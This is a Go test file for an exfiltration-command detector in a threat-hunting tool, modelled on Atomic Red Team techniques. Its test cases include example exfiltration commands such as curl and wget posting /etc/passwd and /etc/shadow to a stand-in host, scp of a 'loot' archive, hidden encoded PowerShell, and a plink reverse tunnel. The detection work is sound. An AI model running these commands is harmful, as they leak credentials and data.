package exfilcmd

import (
	"testing"

	"github.com/sluice-hunt/sluice/event"
)

// TestMatch: the seed's commands with the arguments that make them, from the Atomic Red Team
// definitions (T1048, T1048.003, T1560.001) and their near misses.
func TestMatch(t *testing.T) {
	d := New()
	if err := d.Prepare(); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		image, cmd string
		args       []string
		want       string
	}{
		{"/usr/bin/scp", "scp /tmp/loot.tgz user@203.0.113.5:/tmp", nil, "scp"},
		{"/usr/bin/rsync", "rsync -avz /home/ backup@203.0.113.5:/data", nil, "rsync"},
		{`C:\Windows\System32\ftp.exe`, `ftp -s:C:\Users\x\AppData\Local\Temp\ftp_script.txt`, nil, "ftp"},
		{"/usr/bin/tar", "tar -cvzf /tmp/victim-files.tar.gz /tmp/victim-staging-area", nil, "tar -cf"},
		{"/usr/bin/tar", "tar czf /tmp/x.tgz /etc", nil, "tar -cf"},
		{"/usr/bin/tar", "tar --create --file=/tmp/x.tar /etc", nil, "tar -cf"},
		{"/usr/bin/tar", "tar -xzf /tmp/x.tgz", nil, ""},
		{"/usr/bin/tar", "tar -tf /tmp/x.tgz", nil, ""},
		{"/usr/bin/zip", "zip -r /tmp/T1560.001-data.zip /tmp/T1560", nil, "zip -r"},
		{"/usr/bin/zip", "zip /tmp/one.zip /tmp/one", nil, ""},
		{`C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -tzip %USERPROFILE%\T1560.001-data.zip %USERPROFILE%\*.txt -pblue`, nil, "7z a"},
		{`C:\Program Files\7-Zip\7z.exe`, `7z.exe x archive.zip`, nil, ""},
		{"/usr/bin/curl", "curl --upload-file /tmp/victim-files.tar.gz ftp://127.0.0.1/", nil, "curl -d"},
		{"/usr/bin/curl", "curl -d @/etc/passwd http://203.0.113.5/", nil, "curl -d"},
		{"/usr/bin/curl", "curl -dfoo=bar http://203.0.113.5/", nil, "curl -d"},
		{"/usr/bin/curl", "curl -s https://example.com/", nil, ""},
		{"/usr/bin/wget", "wget --post-file=/etc/shadow http://203.0.113.5/", nil, "wget --post-file"},
		{"/usr/bin/wget", "wget http://203.0.113.5/x.sh", nil, "wget"},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -NoP -sta -NonI -W Hidden -Enc WwBSAGUAZgBdAC4AQQBzAHMA", nil, "powershell -enc"},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -ExecutionPolicy Bypass -File x.ps1", nil, ""},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe & {Send-MailMessage -From a@x -To b@y -Subject "T1048.003 Atomic Test" -Attachments C:\Windows\System32\notepad.exe -SmtpServer 127.0.0.1}`, nil, "Send-MailMessage -Attachments"},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe & {Compress-Archive -Path $env:USERPROFILE\*.txt -DestinationPath $env:USERPROFILE\T1560-data-ps.zip}`, nil, "Compress-Archive"},
		{`C:\Users\x\Downloads\plink.exe`, `plink.exe -P 80 -R 127.0.0.3:4444:127.0.0.2:3389 root@10.0.2.18`, nil, "ssh tunnel"},
		{`/usr/bin/ssh`, `ssh admin@10.0.0.5`, nil, ""},
		{`/usr/bin/rclone`, `rclone copy --max-age 2y exfil.zip ftpserver`, nil, "rclone copy"},
		{"/usr/bin/tar", "", []string{"tar", "-c", "-f", "/tmp/a b.tar", "/home"}, "tar -cf"},
	} {
		e := &event.Host{Op: event.OpProcess, Proc: event.Proc{Image: c.image, CommandLine: c.cmd}, Args: c.args}
		got := ""
		if r := d.Match(e); r != nil {
			got = r.Name
		}
		if got != c.want {
			t.Errorf("%q: got %q, want %q", c.cmd+" "+c.image, got, c.want)
		}
	}
}

func TestOutput(t *testing.T) {
	for _, c := range []struct{ prog, cmd, want string }{
		{"tar", "tar -cvzf /tmp/victim-files.tar.gz /tmp/x", "/tmp/victim-files.tar.gz"},
		{"tar", "tar czf /tmp/x.tgz /etc", "/tmp/x.tgz"},
		{"tar", "tar --create --file=/tmp/x.tar /etc", "/tmp/x.tar"},
		{"zip", "zip -r /tmp/d.zip /tmp/T1560", "/tmp/d.zip"},
		{"7z", `7z.exe a -tzip out.zip *.txt`, "out.zip"},
		{"powershell", `powershell.exe Compress-Archive -Path x -DestinationPath C:\t\data.zip`, `C:\t\data.zip`},
	} {
		args := Split(c.cmd)[1:]
		if got := output("archive", c.prog, args); got != c.want {
			t.Errorf("%s: got %q, want %q", c.cmd, got, c.want)
		}
	}
}
